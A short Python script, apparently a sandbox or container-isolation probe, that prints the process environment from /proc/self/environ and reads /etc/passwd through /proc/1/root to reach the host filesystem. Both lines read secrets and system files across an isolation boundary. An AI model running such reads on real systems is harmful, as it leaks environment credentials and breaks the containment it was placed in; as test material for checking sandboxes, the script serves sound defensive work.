# Tries: /proc tricks: the parent's environment and the host root through /proc/1/root.
# ruff: noqa
print(open("/proc/self/environ").read())
print(open("/proc/1/root/etc/passwd").read())
